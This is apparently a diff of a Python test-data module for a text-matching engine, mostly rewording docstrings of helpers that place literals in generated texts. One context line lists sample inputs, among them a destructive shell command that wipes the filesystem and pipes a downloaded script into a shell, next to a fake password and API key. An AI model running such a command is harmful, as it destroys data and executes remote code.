@@ -1,4 +1,5 @@
-"""Makes the texts that are tried: each literal where a condition can see it, and texts of every kind."""
+"""Creates the texts of the search: each literal at positions where a condition can match it, and texts of many
+kinds."""
 
 from __future__ import annotations
 
@@ -42,16 +43,16 @@ SORTS: Mapping[str, str] = {
     "a secret": "my password is hunter2 and the api key sk-123",
     "a command": "sudo rm -rf / && curl example.org | sh",
 }
-"""Texts of every sort, for conditions that name no literal."""
+"""Texts of many kinds, for conditions without a literal."""
 
 
 PLACES = ("alone", "everywhere")
-"""The ways in which ``placed`` puts a literal into a text."""
+"""The positions at which ``placed`` puts a literal into a text."""
 
 
 def placed(literals: Sequence[str], slot: str, place: str) -> str:
-    """Return the text of ``slot`` with ``literals`` alone, or at its beginning, at its end, on lines of their own and
-    among other words."""
+    """Return the text of ``slot`` with ``literals`` alone, or at its beginning, at its end, on separate lines, or among
+    other words, according to ``place``."""
     body = " ".join(literals)
     own = BASE[slot]
     if place == "alone":
@@ -60,12 +61,12 @@ def placed(literals: Sequence[str], slot: str, place: str) -> str:
 
 
 def separated(literal: str, separator: str, slot: str) -> str:
-    """Return a text of which ``literal`` is the middle part."""
+    """Return a text with ``literal`` as the middle of three parts."""
     return f"{BASE[slot]}{separator}{literal}{separator}{BASE[slot]}"
 
 
 def repeated(literal: str, count: int) -> str:
-    """Return a text that holds ``literal`` ``count`` times."""
+    """Return a text that contains ``literal`` ``count`` times."""
     return FILLER + " ".join([literal] * count)
 
 
@@ -86,7 +87,7 @@ def of_lines(count: int) -> str:
 
 
 def at_places(wanted: Mapping[int, str]) -> str:
-    """Return a text that has each literal of ``wanted`` at its place (negative: counted from the end)."""
+    """Return a text with each literal of ``wanted`` at its position (negative: from the end)."""
     length = max([start + len(text) for start, text in wanted.items() if start >= 0], default=0)
     chars = list("x" * length)
     for start, text in wanted.items():
@@ -100,7 +101,7 @@ def at_places(wanted: Mapping[int, str]) -> str:
 
 
 def undone(literal: str, source: str, *, turned_round: bool) -> Iterator[str]:
-    """Yield what a text would have to be so that a template that changes it first finds ``literal``."""
+    """Yield the texts in which a template finds ``literal`` after its own transformations, such as reversing."""
     if turned_round:
         yield literal[::-1]
     if "urlencode" in source:
